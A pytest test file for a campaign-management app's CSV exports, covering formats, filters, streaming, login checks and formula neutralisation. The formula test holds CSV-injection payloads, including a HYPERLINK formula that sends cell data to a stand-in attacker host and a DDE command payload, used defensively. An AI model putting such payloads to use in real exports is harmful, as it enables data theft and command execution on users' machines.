"""Reports: the printable campaign report, the portfolio report with its per-currency totals, and
the CSV exports of the campaign list, the ticket list and the portfolio: CSV exports.
"""

import csv
import io
from datetime import datetime, timedelta

import pytest

from tests.reports.helpers import (
    BOM,
    CAMPAIGN_HEADER,
    ISO_DATETIME,
    T0,
    TICKET_HEADER,
    as_dicts,
    bulk_seed,
    disposition,
    read_csv,
)

# --- CSV exports ---------------------------------------------------------------------------------


def test_campaign_csv_is_a_streamed_utf8_attachment_with_a_bom(client, viewer, world):
    response = client.get("/campaigns/export.csv")

    rows = read_csv(response)
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert disposition(response) == 'attachment; filename="campaigns.csv"'
    assert response.headers["Cache-Control"] == "no-store"
    assert rows[0] == CAMPAIGN_HEADER
    assert len(rows) == 1 + 6


def test_campaign_csv_has_iso_dates_and_decimal_budgets(client, viewer, world):
    rows = as_dicts(read_csv(client.get("/campaigns/export.csv?sort=name&dir=asc")))

    by_name = {row["name"]: row for row in rows}
    # Plain decimals in the currency's minor units: cents for USD and EUR, none for JPY.
    assert {name: row["budget"] for name, row in by_name.items()} == {
        "DIS_US_MULTI_2026_MoanaLaunch": "1500.50",
        "DIS_FR_MULTI_2026_MoanaLaunch": "2000.25",
        "DIS_JP_MULTI_2026_Frozen": "150000",
        "PIX_US_MULTI_2025_ToyStory": "999.50",
        "PIX_FR_MULTI_2026_Cars": "300.00",
        "DIS_PR_MULTI_2026_Encanto": "100.00",
    }
    moana = by_name["DIS_US_MULTI_2026_MoanaLaunch"]
    assert moana == {
        "name": "DIS_US_MULTI_2026_MoanaLaunch",
        "campaign_name": "MoanaLaunch",
        "brand": "Disney",
        "market": "US",
        "currency": "USD",
        "year": "2026",
        "budget": "1500.50",
        "status": "ACTIVE",
        "tickets": "2",
        "tickets_trafficked": "1",
        "created_at": moana["created_at"],
    }
    for row in rows:
        assert ISO_DATETIME.fullmatch(row["created_at"]), row["created_at"]
    assert datetime.fromisoformat(moana["created_at"]) == T0
    assert datetime.fromisoformat(by_name["DIS_PR_MULTI_2026_Encanto"]["created_at"]) == (
        T0 + timedelta(minutes=5)
    )


def test_campaign_csv_follows_the_list_filters(client, viewer, world):
    dis = world["brands"]["dis"]

    rows = as_dicts(read_csv(client.get(f"/campaigns/export.csv?status=ACTIVE&brand={dis.id}")))

    # The list's default order: newest first.
    assert [row["name"] for row in rows] == [
        "DIS_PR_MULTI_2026_Encanto",
        "DIS_FR_MULTI_2026_MoanaLaunch",
        "DIS_US_MULTI_2026_MoanaLaunch",
    ]
    assert {row["status"] for row in rows} == {"ACTIVE"}
    assert {row["brand"] for row in rows} == {"Disney"}


@pytest.mark.parametrize(
    ("query", "names"),
    [
        (
            "sort=name&dir=asc",
            [
                "DIS_FR_MULTI_2026_MoanaLaunch",
                "DIS_JP_MULTI_2026_Frozen",
                "DIS_PR_MULTI_2026_Encanto",
                "DIS_US_MULTI_2026_MoanaLaunch",
                "PIX_FR_MULTI_2026_Cars",
                "PIX_US_MULTI_2025_ToyStory",
            ],
        ),
        (
            "sort=budget&dir=asc&market={us}",
            ["PIX_US_MULTI_2025_ToyStory", "DIS_US_MULTI_2026_MoanaLaunch"],
        ),
        ("year=2025", ["PIX_US_MULTI_2025_ToyStory"]),
        (
            "q=moana&sort=created&dir=asc",
            [
                "DIS_US_MULTI_2026_MoanaLaunch",
                "DIS_FR_MULTI_2026_MoanaLaunch",
            ],
        ),
        ("status=nope&brand=garbage&year=x&sort=evil", None),
    ],
    ids=["name-asc", "budget-asc-market", "year", "search-created-asc", "bad-args-ignored"],
)
def test_campaign_csv_follows_the_list_sort_and_search(client, viewer, world, query, names):
    url = "/campaigns/export.csv?" + query.format(us=world["markets"]["us"].id)

    rows = as_dicts(read_csv(client.get(url)))

    if names is None:  # nonsense arguments are ignored, as on the list itself
        assert len(rows) == 6
    else:
        assert [row["name"] for row in rows] == names


def test_campaign_csv_with_nothing_matching_is_just_the_header(client, viewer, world):
    rows = read_csv(client.get("/campaigns/export.csv?year=2099"))

    assert rows == [CAMPAIGN_HEADER]


@pytest.mark.parametrize(
    "typed",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
    ],
    ids=["equals", "plus", "minus", "at", "tab", "carriage-return"],
)
def test_campaign_csv_neutralises_formulas(
    client, viewer, make_brand, make_market, add_campaign, typed
):
    add_campaign(make_brand(), make_market(), typed, name_part="Formula")

    (row,) = as_dicts(read_csv(client.get("/campaigns/export.csv")))

    assert row["campaign_name"] == "'" + typed
    assert row["name"].endswith("_Formula")


def test_csv_neutralises_formulas_in_reference_data_too(
    client, viewer, make_brand, make_market, add_campaign
):
    add_campaign(make_brand(name="=1+2"), make_market(), "Plain")

    (row,) = as_dicts(read_csv(client.get("/reports/export.csv")))

    assert row["brand"] == "'=1+2"
    assert row["campaign_name"] == "Plain"


def test_ticket_csv_lists_tickets_with_iso_dates_and_decimal_budgets(client, viewer, world):
    response = client.get("/tickets/export.csv")

    rows = read_csv(response)
    assert disposition(response) == 'attachment; filename="tickets.csv"'
    assert rows[0] == TICKET_HEADER
    by_name = {row["platform_name"]: row for row in as_dicts(rows)}
    assert len(by_name) == 5
    meta = by_name["DIS_US_META_2026_MoanaLaunch"]
    assert {k: v for k, v in meta.items() if k != "updated_at"} == {
        "platform_name": "DIS_US_META_2026_MoanaLaunch",
        "campaign": "DIS_US_MULTI_2026_MoanaLaunch",
        "channel": "META",
        "request_type": "CREATE_CAMPAIGN",
        "status": "TRAFFICKED_SUCCESS",
        "external_platform_id": "act_881",
        "budget_type": "DAILY",
        "budget_amount": "1500.50",
        "currency": "USD",
        "flight_start": "2026-03-01",
        "flight_end": "",
        "qa_failure_reason": "",
    }
    jp = by_name["DIS_JP_META_2026_Frozen"]
    assert (jp["budget_amount"], jp["currency"], jp["flight_end"]) == (
        "150000",
        "JPY",
        "2026-06-30",
    )
    assert by_name["DIS_US_GOOG_2026_MoanaLaunch"]["qa_failure_reason"] == "Landing URL is a 404"
    for row in by_name.values():
        assert ISO_DATETIME.fullmatch(row["updated_at"]), row["updated_at"]
        assert datetime.fromisoformat(row["updated_at"]).tzinfo is not None


@pytest.mark.parametrize(
    ("query", "names"),
    [
        ("status=QA_FAILED", ["DIS_US_GOOG_2026_MoanaLaunch"]),
        (
            "status=trafficked_success",
            ["DIS_JP_META_2026_Frozen", "DIS_US_META_2026_MoanaLaunch"],
        ),
        ("brand={pix}", ["PIX_US_GOOG_2025_ToyStory"]),
        ("market={fr}", ["DIS_FR_META_2026_MoanaLaunch"]),
        (
            "channel={goog}",
            ["DIS_US_GOOG_2026_MoanaLaunch", "PIX_US_GOOG_2025_ToyStory"],
        ),
        (
            "campaign={moana_us}",
            ["DIS_US_GOOG_2026_MoanaLaunch", "DIS_US_META_2026_MoanaLaunch"],
        ),
        ("q=US_META", ["DIS_US_META_2026_MoanaLaunch"]),
        ("brand={dis}&channel={meta}&status=DRAFT", ["DIS_FR_META_2026_MoanaLaunch"]),
    ],
    ids=["status", "status-any-case", "brand", "market", "channel", "campaign", "search", "mix"],
)
def test_ticket_csv_follows_the_ticket_list_filters(client, viewer, world, query, names):
    ids = {
        **world["brands"],
        **world["markets"],
        **world["channels"],
        "moana_us": world["campaigns"]["moana_us"],
    }
    url = "/tickets/export.csv?" + query.format(**{k: v.id for k, v in ids.items()})

    rows = as_dicts(read_csv(client.get(url)))

    assert sorted(row["platform_name"] for row in rows) == names


def test_ticket_csv_neutralises_a_formula_in_the_qa_reason(client, viewer, world, db):
    ticket = world["tickets"]["moana_us_goog"]
    ticket.qa_failure_reason = "-1+1"
    world["tickets"]["toy_us_goog"].external_platform_id = "=cmd"
    db.session.commit()

    rows = as_dicts(read_csv(client.get("/tickets/export.csv?channel=" + str(ticket.channel_id))))

    by_name = {row["platform_name"]: row for row in rows}
    assert by_name["DIS_US_GOOG_2026_MoanaLaunch"]["qa_failure_reason"] == "'-1+1"
    assert by_name["PIX_US_GOOG_2025_ToyStory"]["external_platform_id"] == "'=cmd"


def test_portfolio_csv_follows_the_portfolio_filters(client, viewer, world):
    fr = world["markets"]["fr"]

    response = client.get(f"/reports/export.csv?market={fr.id}")

    rows = read_csv(response)
    assert disposition(response) == 'attachment; filename="portfolio.csv"'
    assert rows[0] == CAMPAIGN_HEADER
    body = as_dicts(rows)
    # The portfolio's order: largest budget first.
    assert [(row["name"], row["currency"], row["budget"]) for row in body] == [
        ("DIS_FR_MULTI_2026_MoanaLaunch", "EUR", "2000.25"),
        ("PIX_FR_MULTI_2026_Cars", "EUR", "300.00"),
    ]
    assert [(r["tickets"], r["tickets_trafficked"]) for r in body] == [("1", "0"), ("0", "0")]


def test_portfolio_csv_has_every_row_the_page_leaves_out(
    db, client, viewer, make_brand, make_market, make_channel
):
    bulk_seed(db, [make_brand()], [make_market(currency="USD")], make_channel(), 230, start=0)

    rows = as_dicts(read_csv(client.get("/reports/export.csv")))

    assert len(rows) == 230
    assert [row["budget"] for row in rows[:2]] == ["229.25", "228.25"]
    assert {row["tickets"] for row in rows} == {"2"}


def test_csv_of_many_rows_is_sent_in_chunks(
    db, client, viewer, make_brand, make_market, make_channel
):
    bulk_seed(db, [make_brand()], [make_market()], make_channel(), 1200, start=0)

    response = client.get("/campaigns/export.csv")

    assert response.is_streamed
    chunks = [chunk for chunk in response.response if chunk]
    response.close()
    assert len(chunks) >= 3, "the whole file was built before the first byte was sent"
    assert chunks[0].startswith(BOM)
    assert all(chunk.endswith(b"\r\n") for chunk in chunks), "a row split across chunks"
    data = b"".join(chunks)[len(BOM) :].decode()
    assert len(list(csv.reader(io.StringIO(data, newline="")))) == 1 + 1200


@pytest.mark.parametrize(
    "path", ["/campaigns/export.csv", "/tickets/export.csv", "/reports/export.csv"]
)
def test_csv_exports_need_a_login(client, world, path):
    response = client.get(path)

    assert response.status_code == 302
    assert "/login" in response.headers["Location"]
